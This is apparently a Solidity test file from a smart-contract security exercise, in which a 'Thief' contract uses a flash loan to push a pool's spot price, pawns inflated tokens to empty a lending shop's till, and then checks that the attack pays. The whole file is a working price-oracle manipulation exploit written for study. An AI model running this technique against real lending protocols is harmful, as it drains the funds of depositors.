// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Appraiser} from "../spot-oracle/src/Appraiser.sol";
import {PawnShop} from "../spot-oracle/src/PawnShop.sol";
import {Weth} from "../spot-oracle/src/Weth.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";
import {Pool} from "../../shared/Pool.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
    function deal(address, uint256) external;
}

contract Thief is IFlashBorrower {
    SpotOracleTest private immutable t = SpotOracleTest(msg.sender);

    function run(uint256 loan) external {
        t.lender().flashLoan(this, address(t.weth()), loan, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        (Pool pool, PawnShop shop, Weth weth, Token pearl) = (t.pool(), t.shop(), t.weth(), t.pearl());
        weth.approve(address(pool), type(uint256).max);
        pearl.approve(address(pool), type(uint256).max);
        pearl.approve(address(shop), type(uint256).max);
        pool.swap(weth.balanceOf(address(this)), false, 0, address(this));
        uint256 till = shop.till();
        uint256 value = t.appraiser().appraise(1 ether);
        // Just enough pearls for all that is in the till.
        uint256 pearls = till * 1.005e18 / 0.7e18 * 1 ether / value + 1e6;
        shop.pawn(pearls, till);
        pool.swap(pearl.balanceOf(address(this)), true, 0, address(this));
        weth.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract SpotOracleTest {
    event log_named_uint(string key, uint256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant alice = address(0xa11ce);
    address private constant bob = address(0xb0b);
    address private constant carol = address(0xca401);

    Weth public weth;
    Token public pearl;
    FlashLender public lender;
    Pool public pool;
    Appraiser public appraiser;
    PawnShop public shop;

    function setUp() public {
        weth = new Weth();
        pearl = new Token("Pearl", "PRL");
        lender = new FlashLender(9);
        pool = new Pool(pearl, weth);
        appraiser = new Appraiser(pool, new Feed(18, 0.02 ether, address(this)));
        shop = new PawnShop(pearl, weth, appraiser);
        _fund(alice, 24_000 ether, 600_000 ether);
        _fund(bob, 6_000 ether, 0);
        _fund(carol, 100 ether, 90_000 ether);
        vm.deal(address(this), 100_000 ether);
        weth.deposit{value: 40_000 ether}();
        weth.transfer(address(lender), 40_000 ether);
        vm.startPrank(alice);
        pool.addLiquidity(500_000 ether, 10_000 ether, alice);
        shop.lend(9_000 ether);
        vm.stopPrank();
        vm.startPrank(bob);
        shop.lend(4_000 ether);
        vm.stopPrank();
        vm.startPrank(carol);
        shop.pawn(60_000 ether, 600 ether);
        vm.stopPrank();
    }

    function _fund(address who, uint256 eth, uint256 pearls) private {
        vm.deal(who, eth);
        if (pearls > 0) pearl.mint(who, pearls);
        vm.startPrank(who);
        weth.deposit{value: eth}();
        weth.approve(address(pool), type(uint256).max);
        weth.approve(address(shop), type(uint256).max);
        pearl.approve(address(pool), type(uint256).max);
        pearl.approve(address(shop), type(uint256).max);
        vm.stopPrank();
    }

    function test_attack_pays() public {
        Thief thief = new Thief();
        weth.deposit{value: 60 ether}();
        weth.transfer(address(thief), 60 ether);
        pearl.mint(address(thief), 2_000 ether);
        thief.run(40_000 ether);
        uint256 profit = weth.balanceOf(address(thief)) + pearl.balanceOf(address(thief)) / 50 - 100 ether;
        emit log_named_uint("profit in base units of WETH", profit);
        require(profit > 5_000 ether, "no profit");
        require(shop.till() == 0, "till not emptied");
    }
}
